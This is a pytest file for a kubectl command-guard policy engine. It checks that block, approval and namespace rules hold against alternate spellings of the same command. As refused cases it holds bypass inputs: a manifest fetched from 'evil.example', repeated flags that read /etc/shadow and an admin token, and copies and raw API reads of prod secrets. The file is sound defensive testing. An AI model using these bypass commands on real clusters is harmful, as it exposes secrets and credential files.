"""Rules and commands compared on what kubectl acts on: verb, canonical type, namespace, names.

Each case here was a bypass or a false positive found by an adversarial review: a rule
written one way (`pod x`) and a command written another (`pod/x`) must give the same answer.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from aofd.resources.kinds import context
from aofd.specs import policy

EXECUTABLES = {"kubectl": Path("/opt/bin/kubectl"), "curl": Path("/opt/bin/curl")}


def ctx(**spec: Any) -> policy.GuardPolicy:
    model = context.Context.model_validate({"metadata": {"name": "t"}, "spec": spec})
    compiled, problems = policy.compile_context(model, tools=policy.known_tools(EXECUTABLES))
    assert () == problems
    return compiled


def decide(command: str | list[str], pol: policy.GuardPolicy) -> policy.Verdict:
    return policy.evaluate(policy.tokenize(command), policy=pol, executables=EXECUTABLES)


BLOCKED = ctx(security={"blocked_commands": ["kubectl delete pod critical-0"]})
APPROVAL = ctx(
    approval={"required": True, "allowed_users": ["U1"], "require_for": ["kubectl delete pod web-0"]}
)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete pod critical-0",
        "kubectl delete pod/critical-0",
        "kubectl delete pods/critical-0",
        "kubectl delete po critical-0",
        "kubectl delete pods critical-0",
        "kubectl delete Pod critical-0",
        "kubectl delete pod other critical-0",
        "kubectl delete pod/other pod/critical-0",
        "kubectl delete po,svc critical-0",
        "kubectl delete pods.v1. critical-0",
        "kubectl -n ops delete pod/critical-0 --grace-period=0",
        "kubectl delete pods -l app=critical",  # the selector may reach it
        "kubectl delete pods --all",
        "kubectl delete -f manifests/pods.yaml",  # the file may name it
    ],
)
def test_blocked_object_rule_matches_every_spelling(command: str) -> None:
    verdict = decide(command, BLOCKED)
    assert not verdict.allowed, command
    assert verdict.rule == "blocked:kubectl delete pod critical-0"


@pytest.mark.parametrize(
    "command",
    ["kubectl delete pod critical-1", "kubectl delete svc critical-0", "kubectl get pod critical-0"],
)
def test_blocked_object_rule_leaves_other_objects_alone(command: str) -> None:
    assert decide(command, BLOCKED).allowed, command


@pytest.mark.parametrize(
    "command", ["kubectl delete pod web-0", "kubectl delete pod/web-0", "kubectl delete pods/web-0 pods/x"]
)
def test_approval_rule_matches_kind_slash_name(command: str) -> None:
    verdict = decide(command, APPROVAL)
    assert verdict.allowed, command
    assert verdict.needs_approval, command
    assert verdict.approval_rule == "kubectl delete pod web-0"


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("kubectl scale deployment/payments", "kubectl scale deploy payments --replicas=0"),
        ("kubectl scale deployment/payments", "kubectl scale deployments.apps/payments --replicas=0"),
        ("kubectl scale deployment/payments", "kubectl scale deployment.v1.apps payments --replicas=0"),
        ("kubectl scale deploy payments", "kubectl scale deployment/payments --replicas=0"),
        ("kubectl logs vault-0", "kubectl logs pod/vault-0"),
        ("kubectl logs vault-0", "kubectl logs --prefix vault-0"),
        ("kubectl logs vault-0", "kubectl logs -f vault-0 -c app"),
        ("kubectl logs pod/vault-0", "kubectl logs vault-0"),
        ("kubectl logs vault-0", "kubectl logs deploy/vault"),  # kubectl picks one of its pods
        ("kubectl get secret db-creds", "kubectl get secret/db-creds -o yaml"),
        ("kubectl get secret db-creds", "kubectl get secrets -o yaml"),
        ("kubectl get secret db-creds", "kubectl get secrets,configmaps"),
        ("kubectl describe pod critical-0", "kubectl describe pod crit"),  # describe reads prefixes
        ("kubectl rollout restart", "kubectl rollout restart deploy/x"),
        ("kubectl create secret", "kubectl create secret generic x --from-literal=a=b"),
    ],
)
def test_block_rule_written_one_way_blocks_the_other(rule: str, command: str) -> None:
    verdict = decide(command, ctx(security={"blocked_commands": [rule]}))
    assert not verdict.allowed, (rule, command)
    assert verdict.rule == f"blocked:{rule}"


@pytest.mark.parametrize(
    ("rule", "command", "allowed"),
    [
        ("kubectl get pods", "kubectl get pod/x", True),
        ("kubectl get pods", "kubectl get po x y", True),
        ("kubectl get pods", "kubectl get secrets pods", False),  # the secret named "pods"
        ("kubectl get pods", "kubectl get pods,secrets", False),
        ("kubectl get pods", "kubectl get pod/x secret/y", False),
        ("kubectl get pods", "kubectl get -f pods.yaml", False),
        ("kubectl get pod web-0", "kubectl get pods/web-0", True),
        ("kubectl get pod web-0", "kubectl get pods", False),  # the list reaches the others
        ("kubectl get pod web-0", "kubectl get pod web-0 web-1", False),
        ("kubectl scale deployment/payments", "kubectl scale deploy payments --replicas=2", True),
        ("kubectl rollout restart", "kubectl rollout restart deploy/x", True),
        ("kubectl rollout restart", "kubectl rollout undo deploy/x", False),
        ("kubectl logs", "kubectl logs --prefix vault-0", True),
    ],
)
def test_allow_rules_cover_exactly_the_objects_they_name(rule: str, command: str, allowed: bool) -> None:
    assert decide(command, ctx(security={"allowed_commands": [rule]})).allowed is allowed, (rule, command)


DEV = ctx(security={"allowed_namespaces": ["dev"]}, namespace="dev")


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("kubectl get ns -l kubernetes.io/metadata.name=prod", "every namespace"),
        ("kubectl get ns --field-selector metadata.name=prod", "every namespace"),
        ("kubectl get namespaces", "every namespace"),
        ("kubectl get ns prod", "'prod' is not in"),
        ("kubectl get namespace/prod", "'prod' is not in"),
        ("kubectl describe node worker-1", "cluster-scoped"),
        ("kubectl describe no", "cluster-scoped"),
        ("kubectl get clusterrolebindings", "cluster-scoped"),
        ("kubectl get pv", "cluster-scoped"),
        ("kubectl top node", "cluster-scoped"),
        ("kubectl drain worker-1", "cluster-scoped"),
        ("kubectl get certificates.cert-manager.io", "not built into Kubernetes"),
        ("kubectl cluster-info", "kube-system"),
        ("kubectl get pods -A", "all namespaces"),
        ("kubectl get pods -n prod", "'prod' is not in"),
    ],
)
def test_allowed_namespaces_means_it(command: str, why: str) -> None:
    verdict = decide(command, DEV)
    assert not verdict.allowed, command
    assert why in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get ns dev",
        "kubectl get pods",
        "kubectl get pods --all-namespaces=false",
        "kubectl describe deploy web",
        "kubectl get events",
    ],
)
def test_allowed_namespaces_lets_namespaced_work_through(command: str) -> None:
    assert decide(command, DEV).allowed, command


def test_cluster_scoped_types_need_an_explicit_allowance() -> None:
    allowance = ["nodes", "certificates.cert-manager.io"]
    pol = ctx(
        namespace="dev", security={"allowed_namespaces": ["dev"], "allowed_cluster_resources": allowance}
    )
    assert decide("kubectl describe node worker-1", pol).allowed
    assert decide("kubectl get certificates.cert-manager.io", pol).allowed
    assert not decide("kubectl get pv", pol).allowed


def test_an_allowance_that_is_not_a_type_name_is_a_problem() -> None:
    model = context.Context.model_validate(
        {"metadata": {"name": "t"}, "spec": {"security": {"allowed_cluster_resources": ["nodes", "a b"]}}}
    )
    _, problems = policy.compile_context(model, tools=policy.known_tools(EXECUTABLES))
    assert [p.loc for p in problems] == [("spec", "security", "allowed_cluster_resources", 1)]


def test_cp_namespace_in_the_path_is_checked() -> None:
    pol = ctx(security={"allowed_namespaces": ["dev"], "allowed_commands": ["kubectl cp"]}, namespace="dev")
    verdict = decide("kubectl cp prod/vault-0:/etc/secret ./x", pol)
    assert not verdict.allowed
    assert "prod" in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -o jsonpath='{.items[?(@.status.restartCount>0)].metadata.name}'",
        "kubectl get pods -o=jsonpath={.items[?(@.spec.replicas<3)]}",
        "kubectl get pods --field-selector status.phase!=Running",
    ],
)
def test_jsonpath_filters_are_not_shell_operators(command: str) -> None:
    assert decide(command, policy.GuardPolicy(context="open")).allowed, command


@pytest.mark.parametrize(
    "command", ["kubectl get pods;", "kubectl get pods|", "kubectl get >x", "kubectl get a&&b"]
)
def test_glued_operators_are_still_refused(command: str) -> None:
    pol = policy.GuardPolicy(context="open")
    verdict = policy.evaluate(command.split(), policy=pol, executables=EXECUTABLES)
    assert not verdict.allowed, command
    assert verdict.rule == "shell-operator", command


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("kubectl logs --nope vault-0", "unknown flag --nope"),
        ("kubectl get -Z pods", "unknown shorthand flag -Z"),
        ("kubectl logs -x vault-0", "unknown shorthand flag -x"),
    ],
)
def test_flags_the_command_does_not_have_are_refused(command: str, reason: str) -> None:
    verdict = decide(command, policy.GuardPolicy(context="open"))
    assert not verdict.allowed
    assert reason in verdict.reason


# ------------------------------------------------------------------ found by a second review


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("kubectl delete pod critical-0", "kubectl delete pods.. critical-0"),  # any version, any group
        ("kubectl get secret db-creds", "kubectl get secrets.. db-creds"),
        ("kubectl scale deployment/payments", "kubectl scale deployments..apps/payments --replicas=0"),
        ("kubectl delete mutatingwebhookconfigurations", "kubectl delete api-extensions --all"),  # a category
        ("kubectl taint node node-1", "kubectl taint node other a=b:NoSchedule --all"),
        ("kubectl taint node node-1", "kubectl taint node other a=b:NoSchedule -l x=y"),
        ("kubectl -n prod delete pods", "kubectl delete pods --all -A"),
        ("kubectl -n prod get secret db-creds", "kubectl get secret db-creds -A"),
        ("kubectl delete --grace-period=0", "kubectl delete pod x --grace-period 0o0"),
        ("kubectl delete --force=true", "kubectl delete pod x --force"),
        ("kubectl delete --force=true", "kubectl delete pod x --force=1"),
        ("kubectl delete --force=true", "kubectl delete pod x --force=True"),
        ("kubectl get -o yaml", "kubectl get secrets -o YAML"),
    ],
)
def test_second_review_spellings_are_blocked(rule: str, command: str) -> None:
    verdict = decide(command, ctx(security={"blocked_commands": [rule]}))
    assert not verdict.allowed, (rule, command)
    assert verdict.rule == f"blocked:{rule}"


@pytest.mark.parametrize("replicas", ["0x0", "0_0", "0b0", "00", "+0"])
def test_integer_spellings_ask_for_approval(replicas: str) -> None:
    pol = ctx(
        approval={"required": True, "allowed_users": ["U1"], "require_for": ["kubectl scale --replicas=0"]}
    )
    verdict = decide(f"kubectl scale deploy/x --replicas={replicas}", pol)
    assert verdict.needs_approval, replicas


def test_a_named_allow_rule_does_not_cover_a_selector_over_its_type() -> None:
    pol = ctx(security={"allowed_commands": ["kubectl taint node node1"]})
    assert decide("kubectl taint node node1 a=b:NoSchedule", pol).allowed
    assert not decide("kubectl taint node node1 a=b:NoSchedule --all", pol).allowed


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("kubectl create foo bar", "unknown kubectl command 'create foo'"),  # a kubectl-create-foo plugin
        ("kubectl rollout nope deploy/x", "unknown kubectl command 'rollout nope'"),
        ("kubectl get pods --proxy-url=http://127.0.0.1:1", "--proxy-url is not allowed"),
        ("kubectl get pods --as-user-extra=a=b", "--as-user-extra is not allowed"),
    ],
)
def test_plugins_below_a_verb_and_target_flags_are_refused(command: str, why: str) -> None:
    verdict = decide(command, policy.GuardPolicy(context="open"))
    assert not verdict.allowed
    assert why in verdict.reason


def test_raw_paths_and_prune_stay_inside_allowed_namespaces() -> None:
    pol = ctx(
        namespace="dev",
        security={
            "allowed_namespaces": ["dev"],
            "allowed_commands": ["kubectl get --raw", "kubectl apply --prune"],
        },
    )
    assert decide("kubectl get --raw /api/v1/namespaces/dev/pods", pol).allowed
    for path in (
        "/api/v1/namespaces/prod/secrets",
        "/api/v1/secrets",
        "/api/v1/namespaces/dev/../prod/secrets",
        "/apis/apps/v1/deployments",
    ):
        verdict = decide(f"kubectl get --raw {path}", pol)
        assert not verdict.allowed, path
        assert "allowed_namespaces" in verdict.reason
    verdict = decide("kubectl apply -f deploy.yaml --prune --all", pol)
    assert not verdict.allowed
    assert "--prune" in verdict.reason


def test_prune_is_an_escape() -> None:
    verdict = decide(
        "kubectl apply -f deploy.yaml --prune --all", ctx(security={"allowed_commands": ["kubectl apply"]})
    )
    assert not verdict.allowed
    assert verdict.rule == "escape:--prune"


@pytest.mark.parametrize(
    ("rule", "allowed", "refused"),
    [
        (
            "kubectl delete --dry-run=server",
            "kubectl delete pod web-0 --dry-run=server",
            "kubectl delete pod web-0 --dry-run=server --dry-run=none",
        ),
        (
            "kubectl scale --replicas=1",
            "kubectl scale deploy web --replicas=1",
            "kubectl scale deploy web --replicas=1 --replicas=0",
        ),
        (
            "kubectl get -o jsonpath-file=tpl/pods.txt",
            "kubectl get pods -o jsonpath-file=tpl/pods.txt",
            "kubectl get pods -o jsonpath-file=tpl/pods.txt -o jsonpath-file=/etc/aofd/admin-token",
        ),
        (
            "kubectl apply -f https://good.example/app.yaml",
            "kubectl apply -f https://good.example/app.yaml",
            "kubectl apply -f https://good.example/app.yaml -f https://evil.example/x.yaml",
        ),
        ("kubectl apply -f -", "kubectl apply -f -", "kubectl apply -f - -f /etc/shadow"),
        (
            "kubectl create configmap --from-file=conf/app",
            "kubectl create configmap x --from-file=conf/app",
            "kubectl create configmap x --from-file=conf/app --from-file=/etc/shadow",
        ),
    ],
)
def test_a_repeated_flag_does_not_slip_past_a_value_rule(rule: str, allowed: str, refused: str) -> None:
    """kubectl keeps the last of a plain flag and every one of a repeatable one: an allow rule that
    gives a value must hold for every occurrence."""
    pol = ctx(security={"allowed_commands": [rule]})
    assert decide(allowed, pol).allowed, allowed
    assert not decide(refused, pol).allowed, refused


def test_every_occurrence_of_an_allowed_value_is_allowed() -> None:
    pol = ctx(
        security={"allowed_commands": ["kubectl apply -f a.yaml -f b.yaml", "kubectl scale --replicas=1"]}
    )
    assert decide("kubectl apply -f a.yaml -f b.yaml", pol).allowed
    assert decide("kubectl scale deploy web --replicas=1 --replicas=1", pol).allowed
    blocked = ctx(security={"blocked_commands": ["kubectl scale --replicas=0"]})
    assert not decide("kubectl scale deploy web --replicas=1 --replicas=0", blocked).allowed
